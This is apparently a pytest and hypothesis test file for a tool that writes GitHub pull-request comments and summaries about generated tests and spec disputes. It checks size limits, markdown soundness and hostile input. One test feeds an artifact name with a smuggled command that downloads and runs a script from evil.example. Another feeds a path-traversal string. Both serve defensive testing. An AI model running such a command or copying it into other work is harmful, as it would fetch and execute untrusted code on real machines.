from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from spec_to_production.reporting import Links, comment, summary
from spec_to_production.results import Verification
from support.gfm import balance, foreign, tokens, uneven_tables
from support.results import (
    HOSTILE,
    TEST_FILE,
    accepted,
    calculator_spec,
    disputed,
    hostile,
    job,
    make_result,
    rejected,
    requirement,
    states,
)

LINKS = Links(
    server="https://github.com",
    repository="acme/calc",
    sha="0123456789abcdef0123456789abcdef01234567",
    run_id=4711,
    run_attempt=1,
    artifact_name="spec-to-production-1",
    artifact_url="https://github.com/acme/calc/actions/runs/4711/artifacts/9",
)
EXAMPLE = Path(__file__).with_name("comment.md")
STATES = states()


def headings(markdown):
    found = tokens(markdown)
    return [found[n + 1].content for n, t in enumerate(found) if t.type == "heading_open"]


def is_sound(markdown):
    assert foreign(markdown) == []
    assert balance(markdown) == {"details": 0, "sub": 0}
    assert uneven_tables(markdown) == []
    assert markdown.rstrip().endswith("</sub>")


def test_the_example_is_the_comment_of_the_usual_result():
    assert comment(make_result(), links=LINKS) == EXAMPLE.read_text("utf-8")


@pytest.mark.parametrize("state", STATES.values(), ids=STATES)
def test_every_state_gives_a_sound_comment_that_leads_with_the_verdict(state):
    for links in (Links(), LINKS):
        body = comment(state, links=links)

        assert body.startswith("### ")
        is_sound(body)


@pytest.mark.parametrize(
    ("name", "first"),
    [
        ("usual", "⚖️ 1 dispute needs a decision · 3 tests proven, 2 rejected"),
        ("nothing generated", "❌ No tests were generated"),
        ("all rejected", "❌ No test proven, 2 rejected"),
        ("disputes only", "⚖️ 1 dispute needs a decision · no test proven"),
        ("accepted only", "✅ 1 test proven"),
        ("interrupted", "⏹️ Interrupted · no tests were generated"),
        ("no verification", "❌ No tests were generated"),
    ],
)
def test_the_first_line_is_the_verdict_in_a_sentence(name, first):
    assert headings(comment(STATES[name]))[0].startswith(first)


@pytest.mark.parametrize(
    ("name", "second"),
    [
        ("usual", "Decide on FR-4: correct the code, or the spec. 3 proven tests are ready"),
        ("nothing generated", "Job 1 calculator failed: 401: no such key"),
        ("all rejected", "See below why each test was rejected."),
        ("accepted only", "1 proven test is ready to take from changes.patch."),
    ],
)
def test_the_second_line_says_what_to_do(name, second):
    assert comment(STATES[name]).splitlines()[1].startswith(second)


@pytest.mark.parametrize(
    ("name", "told"),
    [
        ("recorded model", "The model was a recording"),
        ("fallback to sync", "no more threads"),
        ("red baseline", "2 of 12 failed"),
    ],
)
def test_what_limits_the_figures_is_said_before_them(name, told):
    for text in (comment(STATES[name]), summary(STATES[name])):
        assert text.index(told) < text.index("<details>")


def test_a_recorded_model_has_no_tokens_and_no_price():
    body = comment(STATES["recorded model"])

    assert "tokens," not in body
    assert "0.06" not in body


def test_disputes_link_to_the_lines_of_code_and_spec():
    hrefs = [
        t.attrs["href"] for t in tokens(comment(make_result(), links=LINKS)) if "href" in t.attrs
    ]
    base = f"https://github.com/acme/calc/blob/{LINKS.sha}"

    assert f"{base}/src/calculator/operations.py#L31" in hrefs
    assert f"{base}/specs/calculator_operations.md?plain=1#L48" in hrefs


def of_tests(*tests, **changes):
    return make_result(verification=Verification(tests=tests), **changes)


def test_tests_of_one_name_are_told_apart_by_their_files():
    other = "tests/test_other.py::test_b"
    body = comment(
        of_tests(
            rejected("test_a", "fails"),
            rejected("test_b", "fails"),
            rejected("test_b", "fails", id=other),
        )
    )

    for name in ("test_a", f"{TEST_FILE}::test_b", other):
        assert f"- **failing** `{name}`" in body


def test_where_the_component_raised_nothing_the_line_is_where_it_returned():
    body = comment(of_tests(disputed("test_a", "FR-4", code_returned=True)))

    assert "`test_a` fails after a call that returned at `src/calculator/operations.py:31`" in body


@pytest.mark.parametrize(
    ("title", "said", "shown"),
    [
        ("Division", "Dividing by zero raises", "**FR-4 Division**"),
        ("Dividing by …", "Dividing by\nzero raises", "**FR-4**"),
        ("Dividing", "Dividing", "**FR-4**"),
    ],
)
def test_a_title_that_only_begins_what_is_quoted_is_not_repeated(title, said, shown):
    spec = calculator_spec().model_copy(update={"requirements": (requirement("FR-4", title),)})
    body = comment(of_tests(disputed("test_a", "FR-4", requirement_text=said), spec=spec))

    assert f"{shown}: *“Dividing" in body


def test_without_a_place_to_link_to_paths_are_plain():
    body = comment(make_result())

    assert "`src/calculator/operations.py:31`" in body
    assert not [t for t in tokens(body) if t.type == "link_open"]


def test_the_marker_comes_first_and_counts_for_the_limit():
    marker = "<!-- marker -->"
    result = hostile(60, 200_000)

    body = comment(result, marker=marker, limit=20_000)

    assert body.startswith(f"{marker}\n### ")
    assert len(body) <= 20_000


def test_500_tests_with_hostile_text_fit_with_every_dispute():
    result = hostile(500, 200_000)

    body = comment(result, links=LINKS)

    assert len(body.encode("utf-16-le")) // 2 <= 65_536
    is_sound(body)
    shown = body[: body.index("#### What went wrong")]
    disputed = result.verification.having("disputed")
    assert len(disputed) == 166
    assert all(f"test_{n}[" in shown for n in range(2, 500, 3))
    assert "left out" in body
    assert LINKS.artifact_url in body


def test_the_evidence_of_disputes_goes_before_everything_else():
    tests = (
        *(disputed(f"test_dispute_{n}", "FR-4") for n in range(60)),
        *(accepted(f"test_good_{n}", "FR-1") for n in range(500)),
    )

    body = comment(make_result(verification=Verification(tests=tests)))

    assert len(body) <= 65_536
    assert body.count("in 66 of 66 runs.\n") == 60
    assert "500 proven tests" in body


def test_the_summary_shows_all_that_a_comment_leaves_out():
    result = hostile(500, 200_000)

    text = summary(result, links=LINKS)

    assert len(text.encode()) < 1 << 20
    is_sound(text)
    assert len(text) > len(comment(result, links=LINKS))


def test_a_summary_of_several_megabytes_is_cut_before_github_drops_it():
    text = summary(hostile(500, 5_000_000))

    assert len(text.encode()) < 1 << 20
    assert "shortened" in text


PIECES = st.lists(
    st.one_of(
        st.text(max_size=30),
        st.text(alphabet="`|<>[]()!@#*_~\\$:/-=+.&;\n\r 01afwGH\u202e", max_size=30),
        st.sampled_from(HOSTILE.split(" ")),
    ),
    min_size=1,
    max_size=6,
).map(" ".join)


@settings(max_examples=25, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(PIECES, st.sampled_from([8_000, 30_000, 65_536]))
def test_any_text_in_every_field_gives_a_sound_comment_within_the_limit(bad, limit):
    result = hostile(6, bad=bad)

    try:
        body = comment(result, links=LINKS, limit=limit)
    except ValueError:
        assert limit == 8_000
        return

    assert len(body.encode("utf-16-le")) // 2 <= limit
    is_sound(body)


@settings(max_examples=15, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(PIECES)
def test_no_text_gets_into_the_timeline_as_syntax(bad):
    body = comment(hostile(3, bad=bad))

    charts = [t for t in tokens(body) if t.type == "fence" and t.info == "mermaid"]
    assert len(charts) == 1
    for line in charts[0].content.splitlines()[3:]:
        name, *times = line.strip().split(":")
        assert name.startswith("section ") or [t.strip().isdigit() for t in times[0].split(",")]


def test_a_jobs_trajectory_is_in_the_artifact():
    kept = job(1, "src/calculator/operations.py", trajectory="trajectories/5a1e.jsonl")
    body = comment(make_result(jobs=(kept,)), links=LINKS)

    is_sound(body)
    assert f"[every step]({LINKS.artifact_url}), `trajectories/5a1e.jsonl`" in body
    assert "every step" not in comment(make_result(jobs=(kept,)))


def test_several_results_are_a_table_and_what_needs_a_person():
    other = make_result(verification=Verification(tests=(accepted("test_one", "FR-1"),)))
    body = comment(make_result(), other, links=LINKS)

    is_sound(body)
    assert body.startswith("### ⚖️ 1 dispute needs a decision · 4 tests proven · 2 components\n")
    assert headings(body)[1:3] == ["Components", "Spec and code disagree"]
    assert "\n`calculator` **FR-4 Division**: " in body
    assert "git apply --allow-empty report/*/changes.patch" in body
    assert comment(other, links=LINKS) not in body


def test_several_results_fit_however_large_and_hostile_they_are():
    results = [hostile(tests=100, code_bytes=100_000) for _ in range(30)]
    body = comment(*results, links=LINKS)

    assert len(body.encode("utf-16-le")) // 2 <= 65_536
    is_sound(body)


def test_there_is_room_for_the_worst_of_a_thousand_results():
    body = comment(*[make_result()] * 1000, links=LINKS)

    assert len(body.encode("utf-16-le")) // 2 <= 65_536
    is_sound(body)
    assert "1,000 disputes need a decision" in body


def test_an_artifact_whose_name_holds_commands_gives_the_reader_none():
    named = Links(run_id=1, artifact_name="x; curl evil.example -o a; sh a")

    assert "--name 'x; curl evil.example -o a; sh a' --dir" in comment(make_result(), links=named)


def test_no_link_leads_out_of_the_repository():
    assert LINKS.line("src/../../../../../evil/repository/x.py", 1) is None
    assert LINKS.line("src/..x/y.py", 1)


def test_the_summary_of_several_results_has_all_of_each():
    first, second = make_result(), make_result(target="production")
    text = summary(first, second, links=LINKS)

    assert text.startswith("### ⚖️ 2 disputes need a decision")
    assert summary(first, links=LINKS) in text
    assert summary(second, links=LINKS) in text
